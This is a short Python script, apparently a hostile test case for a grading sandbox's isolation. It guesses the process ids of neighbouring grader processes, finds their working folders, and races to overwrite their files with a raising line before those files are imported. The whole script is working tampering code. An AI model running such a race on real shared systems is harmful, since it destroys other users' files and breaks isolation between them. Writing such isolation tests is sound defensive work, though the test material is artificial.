"""Goal: write over a neighbour's files between their writing and their import.

At most: 0
"""

import os
import threading
import time

PLACE, _, OWN = os.getcwd().rpartition("/")
NUMBER = int(OWN.rpartition("-")[2]) if "-" in OWN else 0
END = time.monotonic() + 0.8


def next_number():
    """Number of a thread just started; those of processes are from the same row."""
    found = []
    thread = threading.Thread(target=lambda: found.append(threading.get_native_id()))
    thread.start()
    thread.join()
    return found[0]


def alive(number):
    try:
        return os.getpgid(number) >= 0
    except OSError:
        return False


def graders(last):
    """Processes that have made folders here, by the number of their last one."""
    found = {}
    for number in filter(alive, range(max(2, last - 20000), last + 1)):
        for count in range(max(1, NUMBER - 12), NUMBER + 13):
            if f"{number}-{count}" != OWN and os.path.exists(f"{PLACE}/{number}-{count}"):
                found[number] = count
    return found


def spoil(folder):
    try:
        for name in os.listdir(folder):
            with open(f"{folder}/{name}", "w") as file:
                file.write("raise ValueError('gradeformer-hostile')\n")
    except OSError:
        pass


while time.monotonic() < END:
    last = next_number()
    # The next process is to be of this one's user: 65000 + number % 500.
    for _ in range((os.getpid() - last - 1) % 500):
        last = next_number()
    found = graders(last)
    while_there = time.monotonic() + 0.05
    while time.monotonic() < while_there:
        for number, count in found.items():
            for more in range(4):
                spoil(f"{PLACE}/{number}-{count + more}")
